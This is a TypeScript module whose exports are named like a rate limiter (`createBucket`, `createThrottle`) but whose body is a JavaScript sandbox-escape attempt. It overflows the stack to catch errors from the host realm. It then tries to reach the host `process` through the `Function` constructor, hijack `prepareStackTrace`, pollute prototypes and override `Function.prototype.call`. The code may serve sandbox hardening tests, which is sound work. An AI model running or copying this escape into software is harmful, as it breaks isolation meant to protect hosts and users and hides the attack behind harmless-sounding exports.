// Escaping: catches an error that the engine made in the outer realm where the stack ran out, and tries what hangs on it.
const outer: any[] = [];
function deep(): void {
  try {
    deep();
  } catch {
    // Further up.
  }
  for (const ask of [() => new Error('a').stack, () => setTimeout(deep, 1e9), () => console.log(1), () => Promise.reject(1)]) {
    try {
      ask();
    } catch (error) {
      if (!(error instanceof Error) && outer.length < 10) outer.push(error);
    }
  }
}
deep();
const spoils: unknown[] = [];
for (const error of outer) {
  const tries = [
    () => error.constructor.constructor('return process')(),
    () => (error.constructor.prepareStackTrace = (_: unknown, sites: any[]) => sites.map((site) => site.getThis())),
    () => (error.__proto__.__proto__.__proto__.then = (settle: unknown) => spoils.push(settle)),
    () => Object.defineProperty(Object.getPrototypeOf(error.constructor.prototype).constructor.prototype, 'fd', { get: () => 1 }),
    () => (error.constructor.constructor.prototype.call = () => spoils.push('called')),
  ];
  for (const attempt of tries) {
    try {
      spoils.push(attempt());
    } catch (refused) {
      spoils.push(String(refused));
    }
  }
}
export const createBucket = () => ({ take: () => spoils, tokens: () => spoils.length });
export const createThrottle = () => ({ admit: () => spoils });
